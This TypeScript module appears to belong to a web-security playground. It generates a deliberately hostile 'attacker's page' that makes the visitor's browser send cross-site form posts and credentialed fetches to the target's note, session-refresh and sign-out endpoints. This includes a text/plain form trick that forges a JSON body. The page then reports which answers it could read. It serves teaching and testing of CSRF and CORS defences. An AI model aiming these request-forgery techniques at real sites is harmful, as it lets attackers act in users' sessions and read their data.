/**
 * The attacker's page: three forms and five fetches against the playground, sent by the browser of whoever opens it.
 * @module
 */

/** What the page writes if anything lets it. */
export const writtenElsewhere = 'Written by a page that is not yours'

/** What the page tells the playground's own page about itself, by a message. */
export interface Report {
  readonly kind: 'handstamp-attack'
  /** What its script could read of the answers. */
  readonly read: readonly { readonly what: string; readonly text: string }[]
}

/** The page as HTML; `target` is the playground's origin. */
export function elsewherePage(target: string): string {
  return `<!doctype html>
<html lang="en">
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="color-scheme" content="light dark">
<title>Another page</title>
<style>body{font:1rem/1.5 system-ui,sans-serif;max-width:40rem;margin:3rem auto;padding:0 1rem}iframe{display:none}</style>
<h1>You have won a note</h1>
<p>This page belongs to the playground’s attacker, at <b id="here"></b>. It has just sent these to ${target}, by your browser:</p>
<ul id="list"></ul>
<p>The playground’s list of requests shows what arrived of them.</p>
<script type="module">
const target = ${JSON.stringify(target)}
const text = ${JSON.stringify(writtenElsewhere)}
const read = []
document.getElementById('here').textContent = location.origin
const patience = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

function tell(what, outcome) {
  const item = document.createElement('li')
  item.textContent = what + ': ' + outcome
  document.getElementById('list').append(item)
}

async function form(path, fields, enctype) {
  const frame = document.createElement('iframe')
  frame.name = 'answer-' + Math.random().toString(36).slice(2)
  document.body.append(frame)
  await patience(0)
  const form = document.createElement('form')
  Object.assign(form, { method: 'post', action: target + path, target: frame.name, enctype })
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input')
    Object.assign(input, { type: 'hidden', name, value })
    form.append(input)
  }
  document.body.append(form)
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
  form.submit()
  await Promise.race([loaded, patience(3000)])
  tell('Form to ' + path, 'sent')
}

async function ask(what, path, init) {
  try {
    const response = await fetch(target + path, { credentials: 'include', ...init })
    const body = await response.text()
    if (body !== '') read.push({ what, text: body.slice(0, 200) })
    tell(what, body === '' ? 'sent, and nothing to read' : 'the answer was read')
  } catch {
    tell(what, 'the browser kept the answer')
  }
}

const json = { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text }) }
await ask('GET /api/me', '/api/me')
await form('/api/notes', { text }, 'application/x-www-form-urlencoded')
await form('/api/notes', { '{"text":"': text + '"}' }, 'text/plain')
await ask('POST /api/notes as JSON', '/api/notes', json)
await ask('POST /api/notes without CORS', '/api/notes', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ text }) })
await ask('POST /auth/refresh', '/auth/refresh', { method: 'POST', mode: 'no-cors' })
await ask('POST /auth/sign-out without CORS', '/auth/sign-out', { method: 'POST', mode: 'no-cors' })
await form('/auth/sign-out', { redirect: '/' }, 'application/x-www-form-urlencoded')
if (parent !== window) parent.postMessage({ kind: 'handstamp-attack', read }, target)
</script>
</html>
`
}
